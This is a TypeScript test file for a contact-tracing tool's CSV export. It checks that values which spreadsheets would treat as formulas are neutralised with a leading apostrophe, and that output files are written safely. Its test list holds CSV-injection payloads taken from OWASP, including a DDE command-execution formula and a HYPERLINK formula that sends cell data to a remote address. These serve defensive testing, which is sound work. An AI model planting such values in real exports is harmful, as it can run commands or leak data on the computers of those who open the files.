import { existsSync, mkdirSync, readdirSync, readFileSync, statSync } from 'node:fs';
import type { Contact, IndexContacts } from '@waypost/core/matching';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { LocalTime } from '../../src/check-ins/local-time.ts';
import { OutputError } from '../../src/errors.ts';
import { ContactsCsv, csvField } from '../../src/match/contacts-csv.ts';
import { scan } from '../check-ins/scan.ts';
import { scratchFolder } from '../scratch.ts';

const { folder, path } = scratchFolder();
const UTC = new LocalTime('UTC');

/** What a spreadsheet takes for the beginning of a formula, also in the wide forms of East Asia. */
const FORMULA = /^[=+\-@\t\r\n＝＋－＠]/;

/** The documented way back: one apostrophe at the beginning is not part of the value. */
const wayBack = (field: string): string => (field.startsWith("'") ? field.slice(1) : field);

/** One written field, read by a CSV reader. */
const reread = (written: string): string | undefined => scan(`${written},end`).rows[0]?.fields[0];

/**
 * Values that ran as formulas in health departments' spreadsheets, and harmless ones that look like
 * them. Source: the cases and inputs of iris-connect/iris-client@40d8a7f1, written after the attack
 * on Luca; and OWASP, CSV Injection.
 */
const FORMULAS = [
  '=1+1',
  '@SUM(A1)',
  '-2+3',
  '+2+3',
  '@test.de',
  '-test',
  '=HYPERLINK("http://example.org/?"&A1,"Click")',
  "=cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\r\n=1+1',
  '＝1+1',
  '＠SUM(A1)',
  '-',
  '+84 900 000 000',
];
const HARMLESS = [
  'a;=1+1',
  'Müller',
  '01.02.2021',
  'Meier; Hans',
  '',
  '0123 4567 89',
  'Max-Mustermann-Straße',
  'Nummer #56',
  'test@test.de',
  '0+8+15',
  '#2332332',
  '(test',
  'Nguyễn Văn Ạ',
  'say "hello"',
  'a,b',
  'two\nlines',
];

describe('a CSV field', () => {
  it.each(FORMULAS)('%j begins with an apostrophe, and comes back', (value) => {
    const read = reread(csvField(value));
    expect(read).toBe(`'${value}`);
    expect(wayBack(read!)).toBe(value);
  });

  it.each(HARMLESS)('%j is as it was', (value) => {
    expect(reread(csvField(value))).toBe(value);
  });

  it.each(["'", "''", "'=1+1", "'a"])(
    '%j, which has an apostrophe already, comes back',
    (value) => {
      expect(reread(csvField(value))).toBe(`'${value}`);
    },
  );

  it('never begins a formula, and always comes back', () => {
    const unit = fc.constantFrom(...Array.from('=+-@＝＠\t\r\n\'",; aệ😀'));
    fc.assert(
      fc.property(fc.oneof(fc.string({ unit, maxLength: 8 }), fc.string()), (value) => {
        const read = reread(csvField(value))!;
        expect(read).not.toMatch(FORMULA);
        expect(wayBack(read)).toBe(value);
      }),
      { numRuns: 1000 },
    );
  });
});

const contact = (person: string, more: Partial<Contact> = {}): Contact => ({
  person,
  encounters: 2,
  longestSeconds: 900,
  totalSeconds: 1200,
  venues: ['v', 'w'],
  firstStart: 1_622_541_600,
  lastEnd: 1_622_545_200,
  ...more,
});

/** The rows of a file that came out, and the mark before them. */
function rowsOf(file: string) {
  const text = readFileSync(file, 'utf8');
  expect(text.startsWith('\uFEFF')).toBe(true);
  expect(text.endsWith('\r\n')).toBe(true);
  const { rows, fault } = scan(text.slice(1));
  expect(fault).toBeNull();
  return rows.map(({ fields }) => fields);
}

const HEADER =
  'index,degree,person,encounters,longest_seconds,total_seconds,best_window_seconds,venues,first_start,last_end'.split(
    ',',
  );

describe('contacts as CSV', () => {
  it('are one row each, their contacts below', async () => {
    const file = path('contacts.csv');
    const csv = await ContactsCsv.open(file, new LocalTime('Asia/Ho_Chi_Minh'));
    expect(existsSync(file)).toBe(false);
    const contacts = [contact('a'), contact('=b', { bestWindowSeconds: 1100 })];
    await csv.addIndexPerson({ person: '007', contacts, secondDegree: ['-c'] });
    await csv.addIndexPerson({ person: 'alone', contacts: [] });
    await csv.finish();
    const times = ['2021-06-01T17:00:00+07:00', '2021-06-01T18:00:00+07:00'];
    expect(rowsOf(file)).toEqual([
      HEADER,
      ['007', '1', 'a', '2', '900', '1200', '', 'v; w', ...times],
      ['007', '1', "'=b", '2', '900', '1200', '1100', 'v; w', ...times],
      ['007', '2', "'-c", '', '', '', '', '', '', ''],
    ]);
    expect(csv.rows).toBe(3);
    expect(statSync(file).mode & 0o777).toBe(0o600);
  });

  it('come out whole when there are many', async () => {
    const file = path('many.csv');
    const csv = await ContactsCsv.open(file, UTC);
    for (let i = 0; i < 20_000; i++) csv.addContact('x', contact(`person ${i}`));
    await csv.finish();
    const rows = rowsOf(file);
    expect(rows).toHaveLength(20_001);
    expect(rows.slice(1).every((row, i) => row[2] === `person ${i}`)).toBe(true);
  });

  it('replace the file that was there, and only at the end', async () => {
    const file = path('again.csv');
    const write = async (person: string, how: 'finish' | 'discard') => {
      const csv = await ContactsCsv.open(file, UTC);
      await csv.addIndexPerson({ person, contacts: [contact('a')] } satisfies IndexContacts);
      await csv[how]();
    };
    await write('1', 'finish');
    await write('2', 'discard');
    expect(rowsOf(file)[1]?.[0]).toBe('1');
    await write('3', 'finish');
    expect(rowsOf(file)[1]?.[0]).toBe('3');
  });

  it('are refused where there can be no such file', async () => {
    mkdirSync(path('folder'));
    for (const file of ['no-such-folder/x.csv', 'folder', 'many.csv/x.csv'])
      await expect(ContactsCsv.open(path(file), UTC)).rejects.toThrow(OutputError);
  });

  it('are refused where the name is taken while they are written', async () => {
    const file = path('taken');
    const csv = await ContactsCsv.open(file, UTC);
    mkdirSync(file);
    await expect(csv.finish()).rejects.toThrow(OutputError);
    await csv.discard();
  });

  it('leave nothing behind', () => {
    expect(readdirSync(folder()).sort()).toEqual([
      'again.csv',
      'contacts.csv',
      'folder',
      'many.csv',
      'taken',
    ]);
  });
});
